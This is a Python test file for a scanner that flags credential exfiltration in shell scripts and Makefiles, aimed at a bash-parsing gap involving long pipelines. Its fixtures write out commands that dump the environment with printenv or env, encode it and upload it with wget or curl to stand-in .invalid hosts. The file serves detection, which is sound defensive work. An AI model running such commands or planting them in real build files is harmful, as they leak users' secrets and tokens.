"""A line piping four or more commands into a file, followed later by a statement with ``&&`` or
``||``: tree-sitter-bash once took the following lines for more targets of the redirect, so the
upload after it was never seen. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_the_environment_packed_by_a_long_pipeline_then_posted_with_a_fallback_is_sent(tmp_path: Path) -> None:
    script = (
        "#!/bin/sh\n"
        "printenv | sort -u | xz -9 | base64 -w0 > /tmp/stamp.b64\n"
        "wget -q --post-file=/tmp/stamp.b64 https://stamps.quillmoor.invalid/in || echo offline\n"
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/stamp.sh", 3) in scan_errors(tmp_path, {"scripts/stamp.sh": script})


def test_a_make_recipe_packing_the_environment_then_posting_it_is_sent(tmp_path: Path) -> None:
    makefile = (
        "DEST := https://relay.quillmoor.invalid/v3\n"
        "warm:\n"
        "\t@env | grep -v '^_' | bzip2 | base64 >> build/meta\n"
        "\t@true\n"
        "\t@curl -fsS -T build/meta $(DEST) && echo warmed\n"
    )
    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 5) in scan_errors(tmp_path, {"Makefile": makefile})


def test_a_long_pipeline_of_plain_figures_into_a_file_before_an_upload_is_quiet(tmp_path: Path) -> None:
    script = (
        "#!/bin/sh\n"
        "cat data/*.csv | cut -d, -f2 | sort | uniq -c > out/counts.txt\n"
        "curl -fsS -T out/counts.txt https://reports.quillmoor.invalid/in || echo offline\n"
    )
    assert not scan_errors(tmp_path, {"scripts/counts.sh": script})
